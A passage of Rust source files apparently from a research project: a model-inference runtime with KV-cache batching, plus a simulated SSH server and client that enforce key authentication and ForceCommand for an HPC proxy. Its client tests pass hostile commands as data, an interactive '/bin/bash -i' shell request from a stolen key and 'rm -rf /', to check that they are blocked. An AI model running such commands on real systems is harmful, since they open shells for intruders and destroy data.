            bail!("batch {b} exceeds largest bucket {bucket}");
        }
        let exe = &self.decode[&bucket];

        let mut tok = vec![0i32; bucket];
        tok[..b].copy_from_slice(tokens);
        let mut pos = vec![0i32; bucket];
        pos[..b].copy_from_slice(positions);

        let kv_batch = assemble_kv(&self.config, kvs, bucket);
        // Literals must outlive execute_b: the host→device copy is async.
        let tok_lit = literal_i32(&tok, &[bucket])?;
        let pos_lit = literal_i32(&pos, &[bucket])?;
        let kv_lit = literal_f32(&kv_batch, &kv_dims(&self.config, bucket))?;
        let tok_buf = self.upload(&tok_lit)?;
        let pos_buf = self.upload(&pos_lit)?;
        let kv_buf = self.upload(&kv_lit)?;

        let mut args: Vec<&xla::PjRtBuffer> = self.param_buffers.iter().collect();
        args.push(&tok_buf);
        args.push(&pos_buf);
        args.push(&kv_buf);
        let result = exe
            .execute_b(&args)
            .map_err(|e| anyhow!("decode exec: {e}"))?;
        // Input literals may only be freed once the computation finished.
        let tuple = result[0][0]
            .to_literal_sync()
            .map_err(|e| anyhow!("decode readback: {e}"))?;
        drop((tok_lit, pos_lit, kv_lit, kv_batch));
        let (logits_lit, kv_lit) = untuple2(tuple)?;
        let logits_flat = to_f32(&logits_lit)?;
        let kv_flat = to_f32(&kv_lit)?;
        scatter_kv(&self.config, &kv_flat, bucket, kvs);

        let vocab = self.config.vocab;
        Ok((0..b)
            .map(|i| logits_flat[i * vocab..(i + 1) * vocab].to_vec())
            .collect())
    }

    fn upload(&self, lit: &xla::Literal) -> Result<xla::PjRtBuffer> {
        self.runtime
            .client
            .buffer_from_host_literal(None, lit)
            .map_err(|e| anyhow!("upload: {e}"))
    }
}

fn kv_dims(c: &ModelConfig, batch: usize) -> Vec<usize> {
    vec![c.n_layers, 2, batch, c.n_heads, c.max_seq, c.d_head]
}

fn literal_i32(data: &[i32], dims: &[usize]) -> Result<xla::Literal> {
    let bytes: Vec<u8> = data.iter().flat_map(|v| v.to_le_bytes()).collect();
    xla::Literal::create_from_shape_and_untyped_data(xla::ElementType::S32, dims, &bytes)
        .map_err(|e| anyhow!("i32 literal: {e}"))
}

fn literal_f32(data: &[f32], dims: &[usize]) -> Result<xla::Literal> {
    // f32 slices are plain bytes; avoid a copy on the KV hot path.
    let bytes: &[u8] =
        unsafe { std::slice::from_raw_parts(data.as_ptr() as *const u8, data.len() * 4) };
    xla::Literal::create_from_shape_and_untyped_data(xla::ElementType::F32, dims, bytes)
        .map_err(|e| anyhow!("f32 literal: {e}"))
}

fn untuple2(lit: xla::Literal) -> Result<(xla::Literal, xla::Literal)> {
    lit.to_tuple2().map_err(|e| anyhow!("untuple: {e}"))
}

fn to_f32(lit: &xla::Literal) -> Result<Vec<f32>> {
    lit.to_vec::<f32>().map_err(|e| anyhow!("to_vec: {e}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pick_bucket_rounds_up() {
        let buckets = vec![1, 2, 4, 8];
        assert_eq!(ModelRuntime::pick_bucket(&buckets, 1), 1);
        assert_eq!(ModelRuntime::pick_bucket(&buckets, 3), 4);
        assert_eq!(ModelRuntime::pick_bucket(&buckets, 8), 8);
        assert_eq!(ModelRuntime::pick_bucket(&buckets, 9), 8, "clamps to max");
    }
}
