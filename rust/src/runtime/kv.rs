//! Per-sequence KV caches and batch (dis)assembly.
//!
//! The artifact's decode step takes a dense batch cache
//! `[L, 2, B, H, S, Dh]`; the engine keeps one host-resident cache per
//! sequence (`[L, 2, 1, H, S, Dh]` flattened) so sequences can join and
//! leave the batch freely between steps — the continuous-batching
//! equivalent of vLLM's block tables, adapted to the fixed-shape AOT
//! world (DESIGN.md §Hardware-Adaptation).

use super::manifest::ModelConfig;

/// KV cache for one sequence, flattened `[L, 2, H, S, Dh]`.
#[derive(Clone)]
pub struct SeqKv {
    pub data: Vec<f32>,
}

impl SeqKv {
    pub fn zeroed(c: &ModelConfig) -> SeqKv {
        SeqKv {
            data: vec![0.0; c.n_layers * 2 * c.n_heads * c.max_seq * c.d_head],
        }
    }
}

/// Interleave per-sequence caches into a `[L,2,B,H,S,Dh]` batch cache;
/// unused slots stay zero.
pub fn assemble_kv(c: &ModelConfig, kvs: &[SeqKv], bucket: usize) -> Vec<f32> {
    let inner = c.n_heads * c.max_seq * c.d_head;
    let mut out = vec![0.0f32; c.n_layers * 2 * bucket * inner];
    for l in 0..c.n_layers {
        for t in 0..2 {
            for (bi, kv) in kvs.iter().enumerate() {
                let src = (l * 2 + t) * inner;
                let dst = ((l * 2 + t) * bucket + bi) * inner;
                out[dst..dst + inner].copy_from_slice(&kv.data[src..src + inner]);
            }
        }
    }
    out
}

/// Inverse of [`assemble_kv`]: write each sequence's updated cache back.
pub fn scatter_kv(c: &ModelConfig, batch_kv: &[f32], bucket: usize, kvs: &mut [SeqKv]) {
    let inner = c.n_heads * c.max_seq * c.d_head;
    for l in 0..c.n_layers {
        for t in 0..2 {
            for (bi, kv) in kvs.iter_mut().enumerate() {
                let dst = (l * 2 + t) * inner;
                let src = ((l * 2 + t) * bucket + bi) * inner;
                kv.data[dst..dst + inner].copy_from_slice(&batch_kv[src..src + inner]);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn config() -> ModelConfig {
        ModelConfig {
            name: "fake".into(),
            vocab: 16,
            d_model: 8,
            n_layers: 2,
            n_heads: 2,
            d_head: 4,
            d_ff: 16,
            max_seq: 8,
        }
    }

    #[test]
    fn roundtrip_preserves_per_seq_caches() {
        let c = config();
        let len = c.n_layers * 2 * c.n_heads * c.max_seq * c.d_head;
        let mut kvs: Vec<SeqKv> = (0..3)
            .map(|i| SeqKv {
                data: (0..len).map(|j| (i * len + j) as f32).collect(),
            })
            .collect();
        let orig: Vec<Vec<f32>> = kvs.iter().map(|k| k.data.clone()).collect();

        let batch = assemble_kv(&c, &kvs, 4);
        assert_eq!(batch.len(), c.n_layers * 2 * 4 * c.n_heads * c.max_seq * c.d_head);

        for kv in kvs.iter_mut() {
            kv.data.iter_mut().for_each(|v| *v = -1.0);
        }
        scatter_kv(&c, &batch, 4, &mut kvs);
        for (kv, orig) in kvs.iter().zip(&orig) {
            assert_eq!(&kv.data, orig);
        }
    }

    #[test]
    fn batch_layout_matches_l2_convention() {
        // Element (l=1, t=0, b=2, h=0, s=0, d=0) must land at the right
        // flat offset for the jax layout [L,2,B,H,S,Dh].
        let c = config();
        let len = c.n_layers * 2 * c.n_heads * c.max_seq * c.d_head;
        let inner = c.n_heads * c.max_seq * c.d_head;
        let mut kvs: Vec<SeqKv> = (0..3).map(|_| SeqKv { data: vec![0.0; len] }).collect();
        kvs[2].data[(1 * 2 + 0) * inner] = 42.0; // (l=1, t=0) block start
        let batch = assemble_kv(&c, &kvs, 4);
        let expect_idx = ((1 * 2 + 0) * 4 + 2) * inner;
        assert_eq!(batch[expect_idx], 42.0);
        assert_eq!(batch.iter().filter(|v| **v != 0.0).count(), 1);
    }

    #[test]
    fn unused_bucket_slots_are_zero() {
        let c = config();
        let kvs = vec![SeqKv {
            data: vec![1.0; c.n_layers * 2 * c.n_heads * c.max_seq * c.d_head],
        }];
        let batch = assemble_kv(&c, &kvs, 4);
        let inner = c.n_heads * c.max_seq * c.d_head;
        // Slot b=3 of (l=0,t=0) must be zero.
        let idx = (0 * 4 + 3) * inner;
        assert!(batch[idx..idx + inner].iter().all(|v| *v == 0.0));
    }
}
