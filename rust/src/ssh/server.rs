//! The SSH daemon side: key auth, ForceCommand enforcement, exec dispatch.
//!
//! Mirrors the OpenSSH behaviour the paper's security story rests on
//! (§5.4–5.5, §6.1.2):
//!
//! * Only key-authenticated clients get a session; unknown keys are
//!   rejected before any command processing.
//! * An `authorized_keys` entry may carry a **ForceCommand**: whatever
//!   command the client requests, the server runs the forced command
//!   instead, exposing the requested string as `SSH_ORIGINAL_COMMAND`.
//!   That is the circuit breaker: a stolen key cannot run a shell; it can
//!   only ever invoke the Cloud Interface Script.
//! * Executables are looked up in an explicit registry — there is no shell
//!   interpolation anywhere on this path, so injection must be caught (or
//!   not) by the script's own parser, which is exactly the attack surface
//!   the paper analyses and we property-test.

use std::collections::HashMap;
use std::io::BufReader;
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use super::frame::{read_frame, write_frame, write_frame_parts, Frame, FrameType};
use crate::util::streaming::CancelToken;
use crate::util::threadpool::ThreadPool;

/// Context handed to an executable for one exec request.
pub struct ExecContext<'a> {
    /// The command string the client *requested* (OpenSSH's
    /// `SSH_ORIGINAL_COMMAND` when a ForceCommand is in effect).
    pub original_command: String,
    /// True when a ForceCommand redirected the request here.
    pub forced: bool,
    /// Request body (stdin).
    pub stdin: Vec<u8>,
    /// Streamed stdout sink.
    pub stdout: &'a mut dyn FnMut(&[u8]),
    /// Set when the client sent a Cancel frame for this channel (its own
    /// downstream went away); long-running executables poll it and wind
    /// down.
    pub cancel: CancelToken,
}

/// A registered server-side executable (the Cloud Interface Script).
pub type Executable = Arc<dyn Fn(&mut ExecContext) -> i32 + Send + Sync>;

/// One `authorized_keys` entry.
#[derive(Clone)]
pub struct AuthorizedKey {
    pub fingerprint: String,
    /// ForceCommand directive: requests from this key always run this
    /// executable, regardless of the requested command.
    pub force_command: Option<String>,
}

/// Configuration for the simulated sshd.
pub struct SshServerConfig {
    /// Authorized keys (fingerprint → entry).
    pub keys: Vec<AuthorizedKey>,
    /// Injected one-way latency per exec/ping, modelling the VM ↔ HPC WAN
    /// hop measured in the paper's Table 1 (≈10 ms for the SSH command).
    pub exec_latency: Duration,
    /// Worker threads for concurrent sessions.
    pub workers: usize,
    /// Concurrent execs per session (the per-connection exec dispatch
    /// pool; streaming execs hold a slot for their whole stream, so this
    /// bounds concurrent token streams per SSH channel).
    pub exec_workers: usize,
}

impl Default for SshServerConfig {
    fn default() -> Self {
        SshServerConfig {
            keys: Vec::new(),
            exec_latency: Duration::ZERO,
            workers: 16,
            exec_workers: 32,
        }
    }
}

/// The simulated sshd.
pub struct SshServer {
    addr: SocketAddr,
    shutdown: Arc<AtomicBool>,
    acceptor: Option<std::thread::JoinHandle<()>>,
    state: Arc<ServerState>,
}

struct ServerState {
    keys: HashMap<String, AuthorizedKey>,
    executables: Mutex<HashMap<String, Executable>>,
    keepalive_hook: Mutex<Option<Arc<dyn Fn() + Send + Sync>>>,
    exec_latency: Duration,
    exec_workers: usize,
    pings: AtomicU64,
    execs: AtomicU64,
    auth_failures: AtomicU64,
    /// Live session sockets, so `stop()` can sever them (a blocked
    /// `read_frame` would otherwise pin the worker pool forever).
    sessions: Mutex<Vec<TcpStream>>,
    stopping: AtomicBool,
}

impl SshServer {
    pub fn bind(addr: &str, config: SshServerConfig) -> std::io::Result<SshServer> {
        let listener = TcpListener::bind(addr)?;
        let addr = listener.local_addr()?;
        let state = Arc::new(ServerState {
            keys: config
                .keys
                .into_iter()
                .map(|k| (k.fingerprint.clone(), k))
                .collect(),
            executables: Mutex::new(HashMap::new()),
            keepalive_hook: Mutex::new(None),
            exec_latency: config.exec_latency,
            exec_workers: config.exec_workers.max(1),
            pings: AtomicU64::new(0),
            execs: AtomicU64::new(0),
            auth_failures: AtomicU64::new(0),
            sessions: Mutex::new(Vec::new()),
            stopping: AtomicBool::new(false),
        });
        let shutdown = Arc::new(AtomicBool::new(false));
        let accept_shutdown = shutdown.clone();
        let accept_state = state.clone();
        let pool = ThreadPool::new("sshd", config.workers);
        let acceptor = std::thread::Builder::new()
            .name("sshd-accept".into())
            .spawn(move || {
                for stream in listener.incoming() {
                    if accept_shutdown.load(Ordering::SeqCst) {
                        break;
                    }
                    if let Ok(stream) = stream {
                        if let Ok(clone) = stream.try_clone() {
                            accept_state.sessions.lock().unwrap().push(clone);
                        }
                        let state = accept_state.clone();
                        pool.execute(move || {
                            let _ = handle_session(stream, state);
                        });
                    }
                }
                pool.shutdown();
            })?;
        Ok(SshServer {
            addr,
            shutdown,
            acceptor: Some(acceptor),
            state,
        })
    }

    pub fn addr(&self) -> SocketAddr {
        self.addr
    }

    /// Register a named executable (e.g. the Cloud Interface Script).
    pub fn register_executable(
        &self,
        name: &str,
        exe: impl Fn(&mut ExecContext) -> i32 + Send + Sync + 'static,
    ) {
        self.state
            .executables
            .lock()
            .unwrap()
            .insert(name.to_string(), Arc::new(exe));
    }

    /// Hook invoked on every keep-alive ping — the paper triggers the
    /// scheduler script from exactly this signal (§5.5).
    pub fn set_keepalive_hook(&self, hook: impl Fn() + Send + Sync + 'static) {
        *self.state.keepalive_hook.lock().unwrap() = Some(Arc::new(hook));
    }

    pub fn stats(&self) -> (u64, u64, u64) {
        (
            self.state.pings.load(Ordering::Relaxed),
            self.state.execs.load(Ordering::Relaxed),
            self.state.auth_failures.load(Ordering::Relaxed),
        )
    }

    pub fn stop(&mut self) {
        if self.shutdown.swap(true, Ordering::SeqCst) {
            return;
        }
        self.state.stopping.store(true, Ordering::SeqCst);
        // Sever live sessions so blocked reads return and workers drain.
        for s in self.state.sessions.lock().unwrap().drain(..) {
            let _ = s.shutdown(std::net::Shutdown::Both);
        }
        let _ = TcpStream::connect(self.addr);
        if let Some(h) = self.acceptor.take() {
            let _ = h.join();
        }
    }
}

impl Drop for SshServer {
    fn drop(&mut self) {
        self.stop();
    }
}

fn handle_session(stream: TcpStream, state: Arc<ServerState>) -> std::io::Result<()> {
    stream.set_nodelay(true).ok();
    let mut reader = BufReader::new(stream.try_clone()?);
    let writer = Arc::new(Mutex::new(stream));

    // --- auth handshake: first frame must be Auth with a known key ---
    let auth = match read_frame(&mut reader)? {
        Some(f) if f.ty == FrameType::Auth => f,
        _ => return Ok(()),
    };
    let fingerprint = String::from_utf8_lossy(&auth.payload).to_string();
    let key = match state.keys.get(&fingerprint) {
        Some(k) => k.clone(),
        None => {
            state.auth_failures.fetch_add(1, Ordering::Relaxed);
            let mut w = writer.lock().unwrap();
            let _ = write_frame(
                &mut *w,
                &Frame::new(0, FrameType::Error, b"permission denied (publickey)".to_vec()),
            );
            return Ok(());
        }
    };
    {
        let mut w = writer.lock().unwrap();
        write_frame(&mut *w, &Frame::new(0, FrameType::Pong, b"ok".to_vec()))?;
    }

    // --- session loop: pings + channel execs ---
    // Pending exec commands per channel, waiting for their Stdin frame.
    let mut pending: HashMap<u32, String> = HashMap::new();
    // Cancel tokens of in-flight execs, keyed by channel, so a Cancel
    // frame can reach the executable mid-run.
    let active: Arc<Mutex<HashMap<u32, CancelToken>>> = Arc::new(Mutex::new(HashMap::new()));
    // Spawned lazily on the first exec: keepalive-only sessions (probes,
    // reconnect churn) never pay for `exec_workers` idle thread stacks.
    let mut exec_pool: Option<ThreadPool> = None;
    loop {
        let frame = match read_frame(&mut reader)? {
            Some(f) => f,
            None => break,
        };
        match frame.ty {
            FrameType::Ping => {
                state.pings.fetch_add(1, Ordering::Relaxed);
                let hook = state.keepalive_hook.lock().unwrap().clone();
                if let Some(hook) = hook {
                    hook();
                }
                let mut w = writer.lock().unwrap();
                write_frame(&mut *w, &Frame::new(frame.chan, FrameType::Pong, Vec::new()))?;
            }
            FrameType::Exec => {
                let cmd = String::from_utf8_lossy(&frame.payload).to_string();
                pending.insert(frame.chan, cmd);
            }
            FrameType::Stdin => {
                let Some(requested) = pending.remove(&frame.chan) else {
                    continue;
                };
                state.execs.fetch_add(1, Ordering::Relaxed);
                let pool = exec_pool
                    .get_or_insert_with(|| ThreadPool::new("sshd-exec", state.exec_workers));
                let chan = frame.chan;
                let stdin = frame.payload;
                let cancel = CancelToken::new();
                active.lock().unwrap().insert(chan, cancel.clone());
                let active = active.clone();
                let state = state.clone();
                let writer = writer.clone();
                let force = key.force_command.clone();
                pool.execute(move || {
                    run_exec(&state, &writer, chan, requested, stdin, force, cancel);
                    active.lock().unwrap().remove(&chan);
                });
            }
            FrameType::Cancel => {
                // Exec not yet started: drop it. Running: trip its token.
                pending.remove(&frame.chan);
                if let Some(token) = active.lock().unwrap().get(&frame.chan) {
                    token.cancel();
                }
            }
            _ => { /* ignore unexpected client frames */ }
        }
    }
    if let Some(pool) = exec_pool {
        pool.shutdown();
    }
    Ok(())
}

fn run_exec(
    state: &ServerState,
    writer: &Arc<Mutex<TcpStream>>,
    chan: u32,
    requested: String,
    stdin: Vec<u8>,
    force_command: Option<String>,
    cancel: CancelToken,
) {
    if !state.exec_latency.is_zero() {
        std::thread::sleep(state.exec_latency);
    }
    // ForceCommand semantics (sshd_config(5)): when the session key carries
    // a forced command, that command runs no matter what was requested; the
    // requested string is only visible as SSH_ORIGINAL_COMMAND
    // (`ctx.original_command`). Keys without the directive (admin keys in
    // tests) run the requested command name from the registry.
    let (exe_name, forced) = match force_command {
        Some(cmd) => (cmd, true),
        None => (
            requested
                .split_whitespace()
                .next()
                .unwrap_or("")
                .to_string(),
            false,
        ),
    };
    let exe = state.executables.lock().unwrap().get(&exe_name).cloned();
    let code = match exe {
        Some(exe) => {
            let writer = writer.clone();
            // Borrowed-parts write: no per-chunk payload copy, head +
            // payload in one vectored write.
            let mut stdout = move |bytes: &[u8]| {
                let mut w = writer.lock().unwrap();
                let _ = write_frame_parts(&mut *w, chan, FrameType::Stdout, bytes);
            };
            let mut ctx = ExecContext {
                original_command: requested,
                forced,
                stdin,
                stdout: &mut stdout,
                cancel,
            };
            exe(&mut ctx)
        }
        None => {
            let mut w = writer.lock().unwrap();
            let _ = write_frame(
                &mut *w,
                &Frame::new(
                    chan,
                    FrameType::Stdout,
                    format!("bash: {exe_name}: command not found").into_bytes(),
                ),
            );
            127
        }
    };
    let mut w = writer.lock().unwrap();
    let _ = write_frame(&mut *w, &Frame::exit(chan, code));
}
