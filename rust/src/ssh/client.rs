//! SSH client side: one authenticated connection, multiplexed exec
//! channels, keep-alive pings.
//!
//! The HPC Proxy holds exactly one of these per HPC platform (paper §5.4),
//! pings every 5 s to detect interruptions, and re-establishes the
//! connection when it breaks.

use std::collections::HashMap;
use std::io::BufReader;
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicU32, Ordering};
use std::sync::mpsc::{Receiver, RecvTimeoutError, Sender};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use super::frame::{read_frame, read_frame_head, write_frame, Frame, FrameType};
use crate::util::http::{relay_pool, BufferPool, PooledBuf};
use crate::util::streaming::CancelToken;

#[derive(Debug, thiserror::Error)]
pub enum SshError {
    #[error("io: {0}")]
    Io(#[from] std::io::Error),
    #[error("authentication failed: {0}")]
    AuthFailed(String),
    #[error("connection lost")]
    ConnectionLost,
    #[error("timeout waiting for {0}")]
    Timeout(&'static str),
    #[error("exec cancelled")]
    Cancelled,
}

/// Result of an exec: exit code + full stdout (streaming callers use
/// [`SshClient::exec_streaming`]).
#[derive(Debug)]
pub struct ExecOutput {
    pub exit_code: i32,
    pub stdout: Vec<u8>,
}

enum ChanMsg {
    Stdout(PooledBuf),
    Exit(i32),
}

struct Shared {
    writer: Mutex<TcpStream>,
    channels: Mutex<HashMap<u32, Sender<ChanMsg>>>,
    pong: Mutex<Option<Sender<()>>>,
    alive: std::sync::atomic::AtomicBool,
}

/// An authenticated SSH connection.
pub struct SshClient {
    shared: Arc<Shared>,
    next_chan: AtomicU32,
    reader: Option<std::thread::JoinHandle<()>>,
    pub timeout: Duration,
}

impl SshClient {
    /// Connect and authenticate with a key fingerprint. Stdout payloads
    /// are read into buffers recycled through the shared relay pool.
    pub fn connect(addr: SocketAddr, key_fingerprint: &str) -> Result<SshClient, SshError> {
        Self::connect_with_pool(addr, key_fingerprint, Some(relay_pool()))
    }

    /// Connect with an explicit stdout buffer pool (`None` = a fresh
    /// allocation per frame, the pre-relay behaviour kept for ablation).
    pub fn connect_with_pool(
        addr: SocketAddr,
        key_fingerprint: &str,
        pool: Option<Arc<BufferPool>>,
    ) -> Result<SshClient, SshError> {
        let stream = TcpStream::connect_timeout(&addr, Duration::from_secs(10))?;
        stream.set_nodelay(true).ok();
        let mut reader = BufReader::new(stream.try_clone()?);
        {
            let mut w = stream.try_clone()?;
            write_frame(
                &mut w,
                &Frame::new(0, FrameType::Auth, key_fingerprint.as_bytes().to_vec()),
            )?;
        }
        // First frame decides: Pong = authenticated, Error = rejected.
        match read_frame(&mut reader)? {
            Some(f) if f.ty == FrameType::Pong => {}
            Some(f) if f.ty == FrameType::Error => {
                return Err(SshError::AuthFailed(
                    String::from_utf8_lossy(&f.payload).to_string(),
                ));
            }
            _ => return Err(SshError::ConnectionLost),
        }
        let shared = Arc::new(Shared {
            writer: Mutex::new(stream),
            channels: Mutex::new(HashMap::new()),
            pong: Mutex::new(None),
            alive: std::sync::atomic::AtomicBool::new(true),
        });
        let reader_shared = shared.clone();
        let reader_handle = std::thread::Builder::new()
            .name("ssh-client-reader".into())
            .spawn(move || {
                use std::io::Read as _;
                loop {
                    let (chan, ty, len) = match read_frame_head(&mut reader) {
                        Ok(Some(head)) => head,
                        Ok(None) | Err(_) => break,
                    };
                    match ty {
                        FrameType::Stdout => {
                            // The token relay hot path: payloads land in
                            // pool-recycled buffers and travel as owned
                            // chunks to the exec waiter, which can forward
                            // them downstream without copying.
                            let mut buf = match &pool {
                                Some(p) => p.take(),
                                None => PooledBuf::from(Vec::new()),
                            };
                            {
                                let v = buf.vec_mut();
                                v.resize(len, 0);
                                if reader.read_exact(v).is_err() {
                                    break;
                                }
                            }
                            let channels = reader_shared.channels.lock().unwrap();
                            if let Some(tx) = channels.get(&chan) {
                                let _ = tx.send(ChanMsg::Stdout(buf));
                            }
                        }
                        _ => {
                            // Control frames are small and rare.
                            let mut payload = vec![0u8; len];
                            if reader.read_exact(&mut payload).is_err() {
                                break;
                            }
                            match ty {
                                FrameType::Exit => {
                                    let code = Frame { chan, ty, payload }
                                        .exit_code()
                                        .unwrap_or(-1);
                                    let mut channels = reader_shared.channels.lock().unwrap();
                                    if let Some(tx) = channels.remove(&chan) {
                                        let _ = tx.send(ChanMsg::Exit(code));
                                    }
                                }
                                FrameType::Pong => {
                                    if let Some(tx) =
                                        reader_shared.pong.lock().unwrap().as_ref()
                                    {
                                        let _ = tx.send(());
                                    }
                                }
                                _ => {}
                            }
                        }
                    }
                }
                reader_shared
                    .alive
                    .store(false, std::sync::atomic::Ordering::SeqCst);
                // Wake any waiters: drop all channel senders.
                reader_shared.channels.lock().unwrap().clear();
            })
            .expect("spawn ssh reader");
        Ok(SshClient {
            shared,
            next_chan: AtomicU32::new(1),
            reader: Some(reader_handle),
            timeout: Duration::from_secs(60),
        })
    }

    pub fn is_alive(&self) -> bool {
        self.shared.alive.load(std::sync::atomic::Ordering::SeqCst)
    }

    /// Send a keep-alive ping and wait for the pong.
    pub fn ping(&self, timeout: Duration) -> Result<(), SshError> {
        let (tx, rx) = std::sync::mpsc::channel();
        *self.shared.pong.lock().unwrap() = Some(tx);
        {
            let mut w = self.shared.writer.lock().unwrap();
            write_frame(&mut *w, &Frame::new(0, FrameType::Ping, Vec::new()))?;
        }
        rx.recv_timeout(timeout)
            .map_err(|_| SshError::Timeout("pong"))
    }

    fn open_channel(&self) -> (u32, Receiver<ChanMsg>) {
        let chan = self.next_chan.fetch_add(1, Ordering::Relaxed);
        let (tx, rx) = std::sync::mpsc::channel();
        self.shared.channels.lock().unwrap().insert(chan, tx);
        (chan, rx)
    }

    /// Run a command with stdin, collecting all stdout.
    pub fn exec(&self, command: &str, stdin: &[u8]) -> Result<ExecOutput, SshError> {
        let mut stdout = Vec::new();
        let code = self.exec_streaming(command, stdin, |chunk| stdout.extend_from_slice(chunk))?;
        Ok(ExecOutput {
            exit_code: code,
            stdout,
        })
    }

    /// Run a command, invoking `on_stdout` per chunk (token streaming path).
    pub fn exec_streaming(
        &self,
        command: &str,
        stdin: &[u8],
        mut on_stdout: impl FnMut(&[u8]),
    ) -> Result<i32, SshError> {
        let never = CancelToken::new();
        self.exec_streaming_cancellable(command, stdin, &never, |chunk| {
            on_stdout(chunk);
            true
        })
    }

    /// Cancellation-aware exec: stops when `cancel` trips or `on_stdout`
    /// returns `false`, sending a [`FrameType::Cancel`] frame upstream so
    /// the server-side executable winds down instead of streaming into the
    /// void. The exec channel is multiplexed, so this is the only way a
    /// client disconnect can cross the SSH hop — dropping the TCP
    /// connection would kill every other stream on it.
    pub fn exec_streaming_cancellable(
        &self,
        command: &str,
        stdin: &[u8],
        cancel: &CancelToken,
        mut on_stdout: impl FnMut(&[u8]) -> bool,
    ) -> Result<i32, SshError> {
        self.exec_relay(command, stdin, cancel, |chunk| on_stdout(chunk.as_slice()))
    }

    /// The relay variant of [`SshClient::exec_streaming_cancellable`]:
    /// stdout arrives as *owned* [`PooledBuf`]s (read into pool-recycled
    /// buffers by the connection reader), so a forwarding hop can pass
    /// them on without copying. Semantics are otherwise identical.
    pub fn exec_relay(
        &self,
        command: &str,
        stdin: &[u8],
        cancel: &CancelToken,
        mut on_stdout: impl FnMut(PooledBuf) -> bool,
    ) -> Result<i32, SshError> {
        if !self.is_alive() {
            return Err(SshError::ConnectionLost);
        }
        let (chan, rx) = self.open_channel();
        {
            let mut w = self.shared.writer.lock().unwrap();
            write_frame(
                &mut *w,
                &Frame::new(chan, FrameType::Exec, command.as_bytes().to_vec()),
            )?;
            write_frame(&mut *w, &Frame::new(chan, FrameType::Stdin, stdin.to_vec()))?;
        }
        // Short poll slices so an idle channel still notices cancellation;
        // `self.timeout` bounds the inter-message gap, as before.
        let poll = Duration::from_millis(50).min(self.timeout);
        let mut deadline = Instant::now() + self.timeout;
        loop {
            if cancel.is_cancelled() {
                self.cancel_channel(chan);
                return Err(SshError::Cancelled);
            }
            match rx.recv_timeout(poll) {
                Ok(ChanMsg::Stdout(bytes)) => {
                    deadline = Instant::now() + self.timeout;
                    if !on_stdout(bytes) {
                        self.cancel_channel(chan);
                        return Err(SshError::Cancelled);
                    }
                }
                Ok(ChanMsg::Exit(code)) => return Ok(code),
                Err(RecvTimeoutError::Timeout) => {
                    if Instant::now() >= deadline {
                        self.shared.channels.lock().unwrap().remove(&chan);
                        return Err(SshError::Timeout("exit"));
                    }
                }
                Err(RecvTimeoutError::Disconnected) => {
                    return Err(SshError::ConnectionLost);
                }
            }
        }
    }

    /// Deregister a channel and tell the server to cancel its exec.
    fn cancel_channel(&self, chan: u32) {
        self.shared.channels.lock().unwrap().remove(&chan);
        if let Ok(mut w) = self.shared.writer.lock() {
            let _ = write_frame(&mut *w, &Frame::new(chan, FrameType::Cancel, Vec::new()));
        }
    }
}

impl std::fmt::Debug for SshClient {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "SshClient(alive={})", self.is_alive())
    }
}

impl Drop for SshClient {
    fn drop(&mut self) {
        // Close the socket to unblock the reader, then join it.
        if let Ok(w) = self.shared.writer.lock() {
            let _ = w.shutdown(std::net::Shutdown::Both);
        }
        if let Some(h) = self.reader.take() {
            let _ = h.join();
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::server::{AuthorizedKey, SshServer, SshServerConfig};
    use super::*;
    use std::sync::atomic::AtomicUsize;

    const KEY: &str = "SHA256:functional-account-key";

    fn test_server(force: Option<&str>) -> SshServer {
        let server = SshServer::bind(
            "127.0.0.1:0",
            SshServerConfig {
                keys: vec![AuthorizedKey {
                    fingerprint: KEY.into(),
                    force_command: force.map(String::from),
                }],
                ..Default::default()
            },
        )
        .unwrap();
        server.register_executable("saia", |ctx| {
            let out = format!(
                "cmd={} forced={} stdin={}",
                ctx.original_command,
                ctx.forced,
                String::from_utf8_lossy(&ctx.stdin)
            );
            (ctx.stdout)(out.as_bytes());
            0
        });
        server.register_executable("echo", |ctx| {
            (ctx.stdout)(&ctx.stdin.clone());
            0
        });
        server
    }

    #[test]
    fn auth_success_and_exec() {
        let server = test_server(None);
        let client = SshClient::connect(server.addr(), KEY).unwrap();
        let out = client.exec("echo hello", b"payload").unwrap();
        assert_eq!(out.exit_code, 0);
        assert_eq!(out.stdout, b"payload");
    }

    #[test]
    fn auth_rejects_unknown_key() {
        let server = test_server(None);
        let err = SshClient::connect(server.addr(), "SHA256:attacker").unwrap_err();
        assert!(matches!(err, SshError::AuthFailed(_)), "{err}");
        assert_eq!(server.stats().2, 1, "auth failure counted");
    }

    #[test]
    fn force_command_overrides_requested_command() {
        let server = test_server(Some("saia"));
        let client = SshClient::connect(server.addr(), KEY).unwrap();
        // Attacker with the stolen key asks for a shell — gets the script.
        let out = client.exec("/bin/bash -i", b"x").unwrap();
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert!(stdout.contains("cmd=/bin/bash -i"), "{stdout}");
        assert!(stdout.contains("forced=true"), "{stdout}");
    }

    #[test]
    fn unknown_command_returns_127() {
        let server = test_server(None);
        let client = SshClient::connect(server.addr(), KEY).unwrap();
        let out = client.exec("rm -rf /", b"").unwrap();
        assert_eq!(out.exit_code, 127);
        assert!(String::from_utf8_lossy(&out.stdout).contains("command not found"));
    }

    #[test]
    fn ping_pong_and_keepalive_hook() {
        let server = test_server(None);
        let pings = Arc::new(AtomicUsize::new(0));
        let hook_pings = pings.clone();
        server.set_keepalive_hook(move || {
            hook_pings.fetch_add(1, Ordering::SeqCst);
        });
        let client = SshClient::connect(server.addr(), KEY).unwrap();
        for _ in 0..3 {
            client.ping(Duration::from_secs(2)).unwrap();
        }
        assert_eq!(pings.load(Ordering::SeqCst), 3);
        assert_eq!(server.stats().0, 3);
    }

    #[test]
    fn concurrent_execs_multiplex_on_one_connection() {
        let server = test_server(None);
        let client = Arc::new(SshClient::connect(server.addr(), KEY).unwrap());
        let mut handles = Vec::new();
        for i in 0..8 {
            let client = client.clone();
            handles.push(std::thread::spawn(move || {
                let body = format!("req-{i}");
                let out = client.exec("echo", body.as_bytes()).unwrap();
